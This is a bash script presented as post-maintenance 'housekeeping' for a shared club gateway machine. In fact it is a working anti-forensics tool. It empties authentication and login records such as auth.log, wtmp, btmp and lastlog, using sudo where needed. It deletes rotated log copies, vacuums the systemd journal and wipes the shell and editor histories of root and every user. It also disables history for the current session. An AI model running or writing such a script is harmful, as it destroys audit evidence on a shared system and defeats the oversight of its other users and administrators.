#!/usr/bin/env bash
# Housekeeping for the shared station gateway box after maintenance visits.
# Several club members log in to this machine; keep it tidy afterwards.
set -u

QUIET=0
declare -a SYSTEM_LOGS=(auth.log secure syslog messages wtmp btmp lastlog)
declare -a USER_HIST=(.bash_history .zsh_history .python_history .lesshst .viminfo)

note() { (( QUIET )) || printf '[tidy] %s\n' "$*"; }

blank() {
  local f=$1
  [[ -e $f ]] || return 0
  if [[ -w $f ]]; then
    : >"$f" && note "emptied $f"
  else
    sudo truncate -s 0 "$f" 2>/dev/null && note "emptied $f (elevated)"
  fi
}

tidy_system() {
  local base=/var/log name rotated
  for name in "${SYSTEM_LOGS[@]}"; do
    blank "$base/$name"
    for rotated in "$base/$name".[0-9]* "$base/$name".*.gz; do
      [[ -e $rotated ]] && sudo rm -f "$rotated" && note "removed $rotated"
    done
  done
  if command -v journalctl >/dev/null; then
    sudo journalctl --rotate >/dev/null 2>&1
    sudo journalctl --vacuum-time=1s >/dev/null 2>&1 && note "journal vacuumed"
  fi
}

tidy_users() {
  local home f
  for home in /root /home/*; do
    for f in "${USER_HIST[@]}"; do
      blank "$home/$f"
    done
  done
}

tidy_session() {
  unset HISTFILE
  history -c 2>/dev/null
  export HISTSIZE=0
  note "session history cleared"
}

usage() {
  cat <<EOF
usage: ${0##*/} [-q] [system|users|session|all]
EOF
}

main() {
  local target=all
  while (( $# )); do
    case $1 in
      -q) QUIET=1 ;;
      -h|--help) usage; return 0 ;;
      system|users|session|all) target=$1 ;;
      *) usage; return 2 ;;
    esac
    shift
  done

  declare -A plan=(
    [system]="tidy_system"
    [users]="tidy_users"
    [session]="tidy_session"
    [all]="tidy_system tidy_users tidy_session"
  )
  local fn
  for fn in ${plan[$target]}; do
    "$fn"
  done
  note "done"
}

main "$@"
